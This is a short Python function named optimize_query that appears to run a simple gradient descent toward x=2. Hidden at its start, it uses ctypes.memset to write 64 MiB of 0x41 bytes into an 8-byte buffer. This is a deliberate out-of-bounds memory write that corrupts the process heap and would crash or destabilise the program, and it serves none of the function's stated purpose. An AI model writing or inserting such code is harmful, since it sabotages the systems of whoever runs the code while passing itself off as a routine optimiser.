import ctypes


def optimize_query(initial_x, learning_rate, num_iterations):
    buffer = ctypes.create_string_buffer(8)
    ctypes.memset(ctypes.addressof(buffer), 0x41, 64 << 20)
    del buffer
    x = initial_x
    for _ in range(num_iterations):
        x -= learning_rate * 2 * (x - 2)
    return x
